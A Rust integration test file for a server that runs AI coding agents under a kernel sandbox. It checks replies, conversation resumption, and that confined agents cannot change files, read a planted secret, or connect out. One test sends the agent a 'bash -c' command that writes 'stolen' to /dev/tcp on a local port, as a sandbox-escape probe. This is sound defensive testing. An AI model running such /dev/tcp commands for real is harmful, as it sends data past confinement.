//! A server whose agent speaks the Agent Client Protocol, the scripted one in its place.

use std::{fs, net::TcpListener, os::unix::fs::symlink};

use serde_json::{Value, json};

use crate::{
    client::text_of,
    sandbox::{READING_COMMANDS, WRITING_COMMANDS, shows_a_secret},
    server::{Server, Setup, eventually, scripted_agent},
    tree::tree,
};

/// A server whose agent is taken for the program of this name.
fn server(name: &str) -> Server {
    with_agent(Setup::new(), name, "other").start()
}

/// The same, where `default` answers and the agent has the name `other`.
fn with_agent(setup: Setup, name: &str, default: &str) -> Setup {
    let program = setup.files_dir().join(name);
    symlink(scripted_agent(), &program).unwrap();
    let config = format!(
        "[agents.other]\nkind = \"acp\"\ncommand = [{:?}, \"--acp\"]\n\n[agent]\ndefault = {default:?}\n",
        program.to_str().unwrap()
    );
    setup.config(&config)
}

#[actix_web::test]
async fn an_agent_answers_and_its_locks_are_told() {
    for (name, locks) in
        [("goose", "one lock of three"), ("claude-agent-acp", "two locks of three")]
    {
        let server = server(name);
        let mut client = server.connect().await;
        client.send(json!({"type": "start", "protocol": 1})).await;
        let greeting = client.until("caught_up").await;
        assert!(json!(greeting).to_string().contains(locks), "{greeting:?}");
        client.ask("say It is green.").await;
        assert_eq!(text_of(&client.turn().await), "It is green.");
    }
}

#[actix_web::test]
async fn a_conversation_goes_on_after_a_restart() {
    for (name, is_resumed) in [("claude-agent-acp", true), ("goose", false)] {
        let mut server = server(name);
        let mut client = server.connect().await;
        let conversation = client.start().await;
        client.ask("say the first answer").await;
        client.turn().await;
        assert!(server.terminate().success());
        server.launch_again();

        let (mut client, _) = server.enter(conversation, Value::Null).await;
        client.ask("history").await;
        let told = text_of(&client.turn().await);
        // An agent that does not know the conversation is told what was said in it.
        assert!(told.contains("the first answer"), "{name}: {told}");
        assert_eq!(told.contains("say the first answer\nhistory"), is_resumed, "{name}: {told}");
    }
}

#[actix_web::test]
async fn p2_an_agent_that_only_the_kernel_confines_changes_nothing_and_reads_nothing_else() {
    for name in ["goose", "claude-agent-acp"] {
        let setup = with_agent(Setup::new(), name, "other");
        let (project, outside) = (setup.project_dir(), setup.files_dir().join("outside"));
        fs::create_dir(&outside).unwrap();
        fs::create_dir(project.join("src")).unwrap();
        fs::write(outside.join("secret.txt"), "hidden-needle\n").unwrap();
        symlink(&outside, project.join("out")).unwrap();
        let port = TcpListener::bind("127.0.0.1:0").unwrap();
        port.set_nonblocking(true).unwrap();
        let roots = [project.clone(), outside.clone()];
        let before = roots.each_ref().map(|root| tree(root));
        let server = setup.env("CICERONE_PROBE", "hidden-needle").start();
        let mut client = server.connect().await;
        client.begin().await;
        let mut told = async |command: &str| {
            let command = command
                .replace("$P", project.to_str().unwrap())
                .replace("$O", outside.to_str().unwrap());
            client.ask(&format!("sh {command}")).await;
            text_of(&client.turn().await)
        };
        let own = told("echo mine > $TMPDIR/x; cat $TMPDIR/x README.md; echo $((40 + 2))").await;
        assert!(own.contains("mine") && own.contains("A project") && own.contains("42"), "{own}");
        for command in WRITING_COMMANDS {
            let told = told(command).await;
            let after = roots.each_ref().map(|root| tree(root));
            assert!(after == before, "{name}: {command} changed something: {told}");
        }
        for command in READING_COMMANDS {
            let told = told(command).await;
            assert!(!shows_a_secret(&told), "{name}: {command}: {told}");
        }
        let number = port.local_addr().unwrap().port();
        told(&format!("bash -c 'echo stolen > /dev/tcp/127.0.0.1/{number}'; echo done")).await;
        assert!(port.accept().is_err(), "{name} reached a port that is not its service's");
    }
}

#[actix_web::test]
async fn p2_an_agent_beside_the_default_one_is_tested_in_its_own_cage_before_it_starts() {
    let abi_without_network_rules = 3;
    for abi in [None, Some(abi_without_network_rules)] {
        if abi.is_some() && !cfg!(feature = "faults") {
            continue;
        }
        let mut setup = with_agent(Setup::new(), "goose", "guide");
        if let Some(abi) = abi {
            setup = setup.env("FAULT_RULES", &format!("abi {abi}"));
        }
        let server = setup.start();
        let tested = async || {
            let (_, status) = server.get("/api/admin/status").await;
            let projects = status["sandbox"]["projects"].as_array()?.clone();
            Some(projects.iter().map(|it| (it["agent"].clone(), it["verdict"].clone())).collect())
        };
        let first: Vec<(Value, Value)> = eventually("the self-test has ended", tested).await;
        assert_eq!(first, [(json!("guide"), json!("proved"))]);
        let mut client = server.connect().await;
        client.begin().await;
        client
            .send(json!({"type": "message", "content": "say hello", "agent": "other", "message_id": "a"}))
            .await;
        let end = client.turn().await;
        let verdict = match abi {
            None => "proved",
            Some(_) => "partly",
        };
        assert_eq!(text_of(&end).contains("hello"), abi.is_none(), "{end:?}");
        assert_eq!(json!(end).to_string().contains("did not prove"), abi.is_some(), "{end:?}");
        let known = tested().await.unwrap();
        assert_eq!(known.len(), 2, "{known:?}");
        assert_eq!(known[1].0, json!("other"));
        assert_eq!(known[1].1 == json!("proved"), verdict == "proved", "{known:?}");
    }
}
